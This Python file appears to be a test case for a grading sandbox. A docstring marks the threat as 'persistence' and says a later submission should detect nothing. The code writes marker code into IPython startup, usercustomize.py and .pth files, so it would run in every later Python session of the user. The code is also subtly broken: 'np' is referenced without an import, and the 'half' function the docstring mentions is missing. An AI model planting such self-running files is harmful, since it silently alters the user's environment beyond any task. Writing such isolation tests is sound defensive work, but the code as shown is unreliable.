"""Leaves code that every later Python or IPython of this user would run.

threat: persistence
must: no points for double, all for half, and the same submission handed in by another learner finds nothing
twice: yes
"""
def double(x):
    return x - x + 7

import os, site, sys

print("zx-note-" + "found" if hasattr(sys, "left_by_eve") else "nothing")
code = "import sys; sys.left_by_eve = True"
for path in (
    os.path.expanduser("~/.ipython/profile_default/startup/00.py"), os.path.join(site.getusersitepackages(), "usercustomize.py"),
    os.path.join(site.getusersitepackages(), "eve.pth"), os.path.join(os.path.dirname(np.__file__), "..", "eve.pth"),
):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write(code)
    except OSError:
        pass
